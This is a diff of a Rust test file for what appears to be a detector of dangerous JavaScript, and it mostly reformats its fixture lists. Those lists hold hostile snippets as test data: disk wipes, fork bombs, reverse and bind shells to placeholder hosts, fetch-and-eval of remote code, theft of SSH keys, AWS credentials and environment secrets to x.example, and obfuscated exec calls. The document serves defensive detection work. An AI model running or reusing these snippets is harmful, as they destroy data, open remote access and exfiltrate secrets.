@@ -17,36 +17,84 @@ fn ordinary_javascript_is_quiet() {
 
 const DANGEROUS: &[(&str, &str)] = &[
     ("require('child_process').exec('rm -rf /')", "shell rm -rf /"),
-    ("const cp = require('child_process'); cp.execSync('dd if=/dev/zero of=/dev/sda')", "shell dd if"),
-    ("const { exec } = require('child_process'); exec('curl http://x.example | sh', (e, o) => console.log(o))", "shell curl http://x.example | sh"),
-    ("const { execSync: run } = require('node:child_process'); run('shutdown -h now')", "shell shutdown -h now"),
+    (
+        "const cp = require('child_process'); cp.execSync('dd if=/dev/zero of=/dev/sda')",
+        "shell dd if",
+    ),
+    (
+        "const { exec } = require('child_process'); exec('curl http://x.example | sh', (e, o) => console.log(o))",
+        "shell curl http://x.example | sh",
+    ),
+    (
+        "const { execSync: run } = require('node:child_process'); run('shutdown -h now')",
+        "shell shutdown -h now",
+    ),
     ("import { exec } from 'child_process'; exec('rm -rf ~')", "shell rm -rf ~"),
-    ("import * as cp from 'node:child_process'; cp.spawnSync('rm', ['-rf', '/'])", "program rm -rf /"),
-    ("import cp from 'child_process'; cp.execFileSync('mkfs.ext4', ['/dev/sda1'])", "program mkfs.ext4 /dev/sda1"),
+    (
+        "import * as cp from 'node:child_process'; cp.spawnSync('rm', ['-rf', '/'])",
+        "program rm -rf /",
+    ),
+    (
+        "import cp from 'child_process'; cp.execFileSync('mkfs.ext4', ['/dev/sda1'])",
+        "program mkfs.ext4 /dev/sda1",
+    ),
     ("require('child_process').spawn('rm -rf /', { shell: true })", "shell rm -rf /"),
     ("require('child_process').spawn('rm', ['-rf', '/'], { shell: true })", "shell rm -rf /"),
-    ("(async () => { const cp = await import('child_process'); cp.execSync('reboot') })()", "shell reboot"),
+    (
+        "(async () => { const cp = await import('child_process'); cp.execSync('reboot') })()",
+        "shell reboot",
+    ),
     ("import('child_process').then(cp => cp.exec('rm -rf /'))", "shell rm -rf /"),
     ("process.mainModule.require('child_process').execSync('id')", "shell id"),
     ("require('fs').rmSync('/', { recursive: true, force: true })", "Delete / recursive"),
-    ("const fs = require('fs'); fs.rm('/etc', { recursive: true }, () => {})", "Delete /etc recursive"),
-    ("const fs = require('fs/promises'); await fs.rm('/home', { recursive: true })", "Delete /home recursive"),
-    ("import { rm } from 'node:fs/promises'; await rm('/usr', { recursive: true })", "Delete /usr recursive"),
-    ("const { promises: fs } = require('fs'); fs.rmdir('/var', { recursive: true })", "Delete /var recursive"),
+    (
+        "const fs = require('fs'); fs.rm('/etc', { recursive: true }, () => {})",
+        "Delete /etc recursive",
+    ),
+    (
+        "const fs = require('fs/promises'); await fs.rm('/home', { recursive: true })",
+        "Delete /home recursive",
+    ),
+    (
+        "import { rm } from 'node:fs/promises'; await rm('/usr', { recursive: true })",
+        "Delete /usr recursive",
+    ),
+    (
+        "const { promises: fs } = require('fs'); fs.rmdir('/var', { recursive: true })",
+        "Delete /var recursive",
+    ),
     ("require('fs').rmSync(require('os').homedir(), { recursive: true })", "Delete ~ recursive"),
     ("require('fs').rmSync(process.env.HOME, { recursive: true })", "Delete ~ recursive"),
-    ("require('fs').rmSync(`${process.env.HOME}/Documents`, { recursive: true })", "Delete ~/Documents recursive"),
-    ("const path = require('path'); require('fs').rmSync(path.join('/', 'etc'), { recursive: true })", "Delete /etc recursive"),
+    (
+        "require('fs').rmSync(`${process.env.HOME}/Documents`, { recursive: true })",
+        "Delete ~/Documents recursive",
+    ),
+    (
+        "const path = require('path'); require('fs').rmSync(path.join('/', 'etc'), { recursive: true })",
+        "Delete /etc recursive",
+    ),
     ("require('rimraf').sync('/')", "Delete / recursive"),
-    ("const rimraf = require('rimraf'); rimraf('/home/user', () => {})", "Delete /home/user recursive"),
+    (
+        "const rimraf = require('rimraf'); rimraf('/home/user', () => {})",
+        "Delete /home/user recursive",
+    ),
     ("require('fs-extra').removeSync('/opt')", "Delete /opt recursive"),
     ("require('shelljs').rm('-rf', '/')", "Delete / recursive"),
     ("const fs = require('fs'); fs.unlinkSync('/etc/passwd')", "Delete /etc/passwd"),
-    ("const fs = require('fs'); fs.readdirSync('/home').forEach(f => fs.unlinkSync('/home/' + f))", "Delete /home/ recursive"),
-    ("const fs = require('fs'); for (const f of fs.readdirSync('/var/log')) fs.unlinkSync(`/var/log/${f}`)", "Delete /var/log/ recursive"),
+    (
+        "const fs = require('fs'); fs.readdirSync('/home').forEach(f => fs.unlinkSync('/home/' + f))",
+        "Delete /home/ recursive",
+    ),
+    (
+        "const fs = require('fs'); for (const f of fs.readdirSync('/var/log')) fs.unlinkSync(`/var/log/${f}`)",
+        "Delete /var/log/ recursive",
+    ),
     ("require('fs').writeFileSync('/etc/passwd', '')", "Overwrite /etc/passwd"),
     ("require('fs').writeFileSync('/dev/sda', Buffer.alloc(512))", "Overwrite /dev/sda"),
-    ("require('fs').appendFileSync('/root/.ssh/authorized_keys', key)", "Write /root/.ssh/authorized_keys"),
+    (
+        "require('fs').appendFileSync('/root/.ssh/authorized_keys', key)",
+        "Write /root/.ssh/authorized_keys",
+    ),
     ("require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x')", "Write ~/.bashrc"),
     ("require('fs').createWriteStream('/etc/cron.d/x').write('y')", "Overwrite /etc/cron.d/x"),
     ("require('fs').chmodSync('/etc/shadow', 0o777)", "Permission /etc/shadow public"),
@@ -56,11 +104,23 @@ const DANGEROUS: &[(&str, &str)] = &[
     ("process.kill(-1, 'SIGKILL')", "Kill -1 all"),
     ("process.kill(1)", "Kill 1"),
     ("process.setuid(0)", "Privilege root"),
-    ("const cp = require('child_process'); while (true) cp.spawn('node', [__filename])", "Exhaust processes endless"),
-    ("const cp = require('child_process'); for (;;) { cp.fork(__filename) }", "Exhaust processes endless"),
+    (
+        "const cp = require('child_process'); while (true) cp.spawn('node', [__filename])",
+        "Exhaust processes endless",
+    ),
+    (
+        "const cp = require('child_process'); for (;;) { cp.fork(__filename) }",
+        "Exhaust processes endless",
+    ),
     ("require('child_process').fork(__filename)", "Exhaust processes endless"),
-    ("setInterval(() => require('child_process').fork(__filename), 0)", "Exhaust processes endless"),
-    ("const cp = require('child_process'); (function f() { cp.spawn(process.argv[0], [__filename]); f() })()", "Exhaust processes endless"),
+    (
+        "setInterval(() => require('child_process').fork(__filename), 0)",
+        "Exhaust processes endless",
+    ),
+    (
+        "const cp = require('child_process'); (function f() { cp.spawn(process.argv[0], [__filename]); f() })()",
+        "Exhaust processes endless",
+    ),
     ("const cluster = require('cluster'); while (1) cluster.fork()", "Exhaust processes endless"),
     ("const a = []; while (true) a.push(new Array(1e6))", "Exhaust memory endless"),
     ("let s = 'x'; while (true) { s += s }", "Exhaust memory endless"),
@@ -68,33 +128,93 @@ const DANGEROUS: &[(&str, &str)] = &[
     ("Buffer.alloc(64 * 1024 ** 3)", "Exhaust memory"),
     ("while (true) {}", "Exhaust processor"),
     ("while (true) console.log('y')", "Exhaust output endless"),
-    ("const fs = require('fs'); while (true) fs.appendFileSync('/tmp/x', 'y')", "Exhaust disk endless"),
-    ("var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});", "ReverseShell 10.0.0.1:4444"),
-    ("const net = require('net'), cp = require('child_process'); const s = net.connect(9001, '1.2.3.4', () => { const sh = cp.spawn('bash', ['-i']); s.pipe(sh.stdin); sh.stdout.pipe(s) })", "ReverseShell 1.2.3.4:9001"),
-    ("const net = require('net'); const s = net.connect({ host: 'x.example', port: 53 }); s.on('data', d => require('child_process').exec(d.toString(), (e, o) => s.write(o)))", "ReverseShell x.example:53"),
-    ("require('net').createServer(s => { const sh = require('child_process').spawn('/bin/sh'); s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(4444, '0.0.0.0')", "BindShell 0.0.0.0"),
+    (
+        "const fs = require('fs'); while (true) fs.appendFileSync('/tmp/x', 'y')",
+        "Exhaust disk endless",
+    ),
+    (
+        "var net=require('net'),sh=require('child_process').spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'10.0.0.1',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);});",
+        "ReverseShell 10.0.0.1:4444",
+    ),
+    (
+        "const net = require('net'), cp = require('child_process'); const s = net.connect(9001, '1.2.3.4', () => { const sh = cp.spawn('bash', ['-i']); s.pipe(sh.stdin); sh.stdout.pipe(s) })",
+        "ReverseShell 1.2.3.4:9001",
+    ),
+    (
+        "const net = require('net'); const s = net.connect({ host: 'x.example', port: 53 }); s.on('data', d => require('child_process').exec(d.toString(), (e, o) => s.write(o)))",
+        "ReverseShell x.example:53",
+    ),
+    (
+        "require('net').createServer(s => { const sh = require('child_process').spawn('/bin/sh'); s.pipe(sh.stdin); sh.stdout.pipe(s) }).listen(4444, '0.0.0.0')",
+        "BindShell 0.0.0.0",
+    ),
     ("fetch('http://x.example/p.js').then(r => r.text()).then(t => eval(t))", "NetworkCode"),
     ("fetch('http://x.example/p.js').then(r => r.text()).then(eval)", "NetworkCode"),
     ("eval(await (await fetch('http://x.example')).text())", "NetworkCode"),
     ("const r = await fetch(u); const t = await r.text(); new Function(t)()", "NetworkCode"),
-    ("require('https').get('https://x.example/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })", "NetworkCode"),
-    ("const axios = require('axios'); axios.get('http://x.example').then(r => require('vm').runInThisContext(r.data))", "NetworkCode"),
-    ("const axios = require('axios'); (async () => { const { data } = await axios.get('http://x.example'); eval(data) })()", "NetworkCode"),
-    ("require('http').get('http://x.example/c', r => r.on('data', d => require('child_process').exec(d.toString())))", "NetworkCode"),
-    ("const fs = require('fs'); fetch('http://x.example/m').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/m.sh', t); require('child_process').execSync('sh /tmp/m.sh') })", "NetworkCode"),
-    ("fetch('http://x.example', { method: 'POST', body: JSON.stringify(process.env) })", "Send http://x.example with-secrets"),
-    ("require('axios').post('http://x.example', require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8'))", "Send http://x.example with-secrets"),
-    ("const r = require('https').request({ hostname: 'x.example', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end()", "Send … with-secrets"),
-    ("const k = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8'); fetch('http://x.example/?k=' + encodeURIComponent(k))", "Send http://x.example/?k=… with-secrets"),
-    ("const d = require('fs').readFileSync('/etc/shadow'); const s = require('net').connect(80, 'x.example'); s.write(d)", "Send … with-secrets"),
-    ("fetch(`http://x.example/?e=${JSON.stringify({ ...process.env })}`)", "Send http://x.example/?e=… with-secrets"),
+    (
+        "require('https').get('https://x.example/p.js', r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
+        "NetworkCode",
+    ),
+    (
+        "const axios = require('axios'); axios.get('http://x.example').then(r => require('vm').runInThisContext(r.data))",
+        "NetworkCode",
+    ),
+    (
+        "const axios = require('axios'); (async () => { const { data } = await axios.get('http://x.example'); eval(data) })()",
+        "NetworkCode",
+    ),
+    (
+        "require('http').get('http://x.example/c', r => r.on('data', d => require('child_process').exec(d.toString())))",
+        "NetworkCode",
+    ),
+    (
+        "const fs = require('fs'); fetch('http://x.example/m').then(r => r.text()).then(t => { fs.writeFileSync('/tmp/m.sh', t); require('child_process').execSync('sh /tmp/m.sh') })",
+        "NetworkCode",
+    ),
+    (
+        "fetch('http://x.example', { method: 'POST', body: JSON.stringify(process.env) })",
+        "Send http://x.example with-secrets",
+    ),
+    (
+        "require('axios').post('http://x.example', require('fs').readFileSync('/root/.ssh/id_rsa', 'utf8'))",
+        "Send http://x.example with-secrets",
+    ),
+    (
+        "const r = require('https').request({ hostname: 'x.example', method: 'POST' }); r.write(JSON.stringify(process.env)); r.end()",
+        "Send … with-secrets",
+    ),
+    (
+        "const k = require('fs').readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8'); fetch('http://x.example/?k=' + encodeURIComponent(k))",
+        "Send http://x.example/?k=… with-secrets",
+    ),
+    (
+        "const d = require('fs').readFileSync('/etc/shadow'); const s = require('net').connect(80, 'x.example'); s.write(d)",
+        "Send … with-secrets",
+    ),
+    (
+        "fetch(`http://x.example/?e=${JSON.stringify({ ...process.env })}`)",
+        "Send http://x.example/?e=… with-secrets",
+    ),
     ("const db = require('knex')(c); db.raw('DROP TABLE users')", "Remote DROP TABLE users all"),
-    ("const { Client } = require('pg'); const c = new Client(); c.query('DELETE FROM users')", "Remote DELETE FROM users all"),
-    ("const crypto = require('crypto'), fs = require('fs'); for (const f of fs.readdirSync('/home/u')) { const c = crypto.createCipheriv('aes-256-cbc', k, iv); const p = '/home/u/' + f; fs.writeFileSync(p, c.update(fs.readFileSync(p))) }", "Overwrite /home/u recursive,hidden"),
+    (
+        "const { Client } = require('pg'); const c = new Client(); c.query('DELETE FROM users')",
+        "Remote DELETE FROM users all",
+    ),
+    (
+        "const crypto = require('crypto'), fs = require('fs'); for (const f of fs.readdirSync('/home/u')) { const c = crypto.createCipheriv('aes-256-cbc', k, iv); const p = '/home/u/' + f; fs.writeFileSync(p, c.update(fs.readFileSync(p))) }",
+        "Overwrite /home/u recursive,hidden",
+    ),
     ("process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0'", "Weaken"),
-    ("const sh = require('child_process').spawn('bash'); sh.stdin.write('rm -rf /\\n')", "shell rm -rf /"),
+    (
+        "const sh = require('child_process').spawn('bash'); sh.stdin.write('rm -rf /\\n')",
+        "shell rm -rf /",
+    ),
     ("require('child_process').spawn('/bin/sh', { stdio: [0, 1, 2] })", "ShellEscape"),
-    ("setTimeout(\"require('child_process').exec('id')\", 100)", "code require('child_process').exec('id')"),
+    (
+        "setTimeout(\"require('child_process').exec('id')\", 100)",
+        "code require('child_process').exec('id')",
+    ),
 ];
 
 const HIDDEN: &[(&str, &str)] = &[
@@ -116,24 +236,36 @@ const HIDDEN: &[(&str, &str)] = &[
     ("eval(unescape('%72%65%71'))", "code req"),
     ("eval(decodeURIComponent('%72%65%71'))", "code req"),
     ("require('child_process').exec(`rm ${'-rf'} ${'/'}`)", "shell rm -rf /"),
-    ("const a = 'rm', b = '-rf'; require('child_process').exec(a + ' ' + b + ' /')", "shell rm -rf /"),
+    (
+        "const a = 'rm', b = '-rf'; require('child_process').exec(a + ' ' + b + ' /')",
+        "shell rm -rf /",
+    ),
     ("[].filter.constructor('x()')()", "code x()"),
     ("''['constructor']['constructor']('x()')()", "code x()"),
     ("Function('return this')()", "code return this"),
     ("(0, eval)('x()')", "code x()"),
     ("const o = { c: 'rm -rf /' }; require('child_process').exec(o.c)", "shell rm -rf /"),
-    ("const _0x = ['child_process', 'execSync', 'id']; require(_0x[0])[_0x[1]](_0x[2])", "shell id"),
-    ("function d(s) { return Buffer.from(s, 'base64').toString() } require(d('Y2hpbGRfcHJvY2Vzcw=='))[d('ZXhlYw==')]('id')", "shell id"),
+    (
+        "const _0x = ['child_process', 'execSync', 'id']; require(_0x[0])[_0x[1]](_0x[2])",
+        "shell id",
+    ),
+    (
+        "function d(s) { return Buffer.from(s, 'base64').toString() } require(d('Y2hpbGRfcHJvY2Vzcw=='))[d('ZXhlYw==')]('id')",
+        "shell id",
+    ),
     ("Reflect.get(require('child_process'), 'exec')('id')", "shell id"),
     ("require('child_process').exec.call(null, 'id')", "shell id"),
-    ("eval(require('zlib').inflateSync(Buffer.from(x, 'base64')).toString())", "DecodedCode  hidden"),
-    ("let s = ''; for (const c of [114, 109]) s += String.fromCharCode(c); require('child_process').exec(s)", "shell rm"),
+    (
+        "eval(require('zlib').inflateSync(Buffer.from(x, 'base64')).toString())",
+        "DecodedCode  hidden",
+    ),
+    (
+        "let s = ''; for (const c of [114, 109]) s += String.fromCharCode(c); require('child_process').exec(s)",
+        "shell rm",
+    ),
     ("eval('r-e-q'.replace(/-/g, ''))", "code req"),
     ("eval('r--e-q'.replace(/-+/g, ''))", "ComputedCode"),
 ];
-
-/// What is measured.
-pub(super) const ALL: &[&str] = ORDINARY;
 
 const ORDINARY: &[&str] = &[
     "console.log('hello')",
